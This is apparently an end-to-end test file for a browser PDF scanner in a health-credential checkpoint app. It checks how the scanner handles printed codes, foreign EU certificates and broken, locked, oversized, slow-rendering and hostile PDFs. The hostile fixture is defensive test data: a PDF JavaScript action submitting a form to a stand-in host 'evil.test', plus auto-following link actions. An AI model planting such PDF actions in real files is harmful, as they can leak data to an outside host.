// PDFs at the scanner: printed sheets, pictures of symbols, foreign ones, and files that are broken, locked, huge, empty or hostile.

import { deflateSync } from 'node:zlib';
import type { Browser, Page } from 'playwright-core';
import t from 'tap';
import { pngOf } from '../../src/adapters/qr.js';
import type { CredentialView } from '../../src/http/schemas/credential.js';
import { scanEn } from '../../src/web/scan/words/en.js';
import { scanZhCn } from '../../src/web/scan/words/zh-cn.js';
import { createDccSigner, dccClaims, signHc1 } from '../support/fixtures.js';
import { issueRequest } from '../support/office.js';
import { enrol, next, press, shown, WAIT } from './support/checkpoint.js';
import { visit, withoutChromium } from './support/chromium.js';
import { openGate, post } from './support/gate.js';
import { LOCKED, pageOf } from './support/pdf.js';
import { faults } from './support/wallet.js';

t.setTimeout(120_000);

const BLANK = deflateSync('');
/** Drawing it takes long. */
const ENDLESS = pageOf(deflateSync('0 0 m 500 800 l S '.repeat(2_000_000), { level: 1 }));
const SCRIPT = '<< /S /JavaScript /JS (app.alert(1); this.submitForm("http://evil.test/")) >>';
const ADDRESS = '<< /S /URI /URI (http://evil.test/) >>';
/** It asks to run scripts and to follow addresses. */
const HOSTILE = {
  catalog: `/OpenAction ${SCRIPT} /AcroForm << /XFA (<xdp/>) /Fields [] >>`,
  page: `/AA << /O ${ADDRESS} >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 500 500] /A ${ADDRESS} >>]`,
};

async function printed(browser: Browser, html: string): Promise<Buffer> {
  const page = await browser.newPage();
  await page.setContent(html);
  const pdf = await page.pdf({ preferCSSPageSize: true });
  await page.close();
  return pdf;
}

/** A page a symbol, each a picture of 40 mm. */
function symbols(browser: Browser, ...texts: readonly string[]): Promise<Buffer> {
  const address = (text: string) => `data:image/png;base64,${Buffer.from(pngOf(text, 8)).toString('base64')}`;
  const figure = (text: string) =>
    `<figure style="break-after: page"><img src="${address(text)}" width="150"></figure>`;
  return printed(browser, texts.map(figure).join(''));
}

async function hand(page: Page, buffer: Buffer, mimeType = 'application/pdf'): Promise<void> {
  await page.locator('input[type=file]').setInputFiles({ name: 'code.pdf', mimeType, buffer });
}

async function judged(page: Page, pdf: Buffer): Promise<string> {
  await hand(page, pdf);
  const { verdict } = await shown(page);
  await next(page);
  return verdict;
}

const DROP_HUGE = `(() => {
  const dataTransfer = new DataTransfer();
  dataTransfer.items.add(new File([new Uint8Array(8 * 2 ** 20 + 1)], 'a.pdf', { type: 'application/pdf' }));
  document.body.dispatchEvent(new DragEvent('drop', { dataTransfer, bubbles: true, cancelable: true }));
})()`;

/** The eight seconds that a file is given become others: more for a slow machine, or less. */
const given = (milliseconds: number): string => `(() => {
  const wait = setTimeout;
  globalThis.setTimeout = (run, ms, ...more) => wait(run, ms > 1000 && ms <= 8000 ? ${milliseconds} : ms, ...more);
})()`;

t.test('a code in a PDF', { skip: withoutChromium }, async (t) => {
  const { node, browser, link } = await openGate(t);
  const { page, context, complaints } = await visit(browser, await link(), 360, 'zh-CN', (page) =>
    page.addInitScript(given(60_000)),
  );
  await enrol(page);
  const request = issueRequest('health-code', { forms: ['paper'] });
  const { id, encodings } = await post<CredentialView>(node, '/v1/credentials', request);
  const ours = encodings[0]?.code ?? '';
  const sheet = async (layout: string): Promise<Buffer> => {
    const url = `/v1/credentials/${id}/encodings/1/${layout}.html`;
    return printed(browser, (await node.localApp.inject({ method: 'GET', url })).payload);
  };

  t.equal(await judged(page, await sheet('a4')), 'admit ok node', 'our sheet, printed to PDF');
  const others = await symbols(browser, 'https://example.org/', ours);
  t.equal(await judged(page, others), 'admit ok node', 'of several symbols the first that is ours');
  t.equal(await judged(page, await symbols(browser, 'https://example.org/')), 'refuse not_ours node');
  const foreign = signHc1(dccClaims(), createDccSigner().signer);
  t.equal(await judged(page, await symbols(browser, foreign)), 'refuse issuer_unknown node', 'of the EU');
  await hand(page, await sheet('card'), 'application/octet-stream');
  t.equal((await shown(page)).verdict, 'admit ok node', 'known by how it begins');
  await next(page);

  const told = async (words: typeof scanZhCn | typeof scanEn): Promise<void> => {
    const isTold = (word: keyof typeof scanEn) =>
      page.locator('.gate-note', { hasText: words[word] }).waitFor(WAIT);
    for (const [word, pdf] of [
      ['scan.noSymbol', pageOf(BLANK, HOSTILE)],
      ['pdf.locked', pageOf(BLANK, { trailer: LOCKED })],
      ['pdf.broken', Buffer.from('%PDF-1.7 and nothing that follows from it')],
      ['pdf.slow', ENDLESS],
    ] as const) {
      if (word === 'pdf.slow') await page.evaluate(given(300));
      await hand(page, pdf);
      await isTold(word);
      t.equal(await page.locator('.result').count(), 0, words[word]);
    }
    await page.evaluate(DROP_HUGE);
    await isTold('pdf.big');
  };
  await told(scanZhCn);
  await page.reload();
  await press(page, scanZhCn['scan.more']);
  await press(page, 'English');
  await press(page, scanEn['type.back']);
  await told(scanEn);

  await page.reload();
  await page.evaluate('navigator.serviceWorker.ready.then(() => true)');
  await page.locator('.bar[data-fresh="ok"]').waitFor(WAIT);
  await page.route('**/scan-pdf.js', (route) => route.abort());
  await context.setOffline(true);
  t.equal(await judged(page, others), 'admit ok page', 'without a network');
  t.same(faults(complaints), [], 'no breach of the policy, no exception, no other host');
});
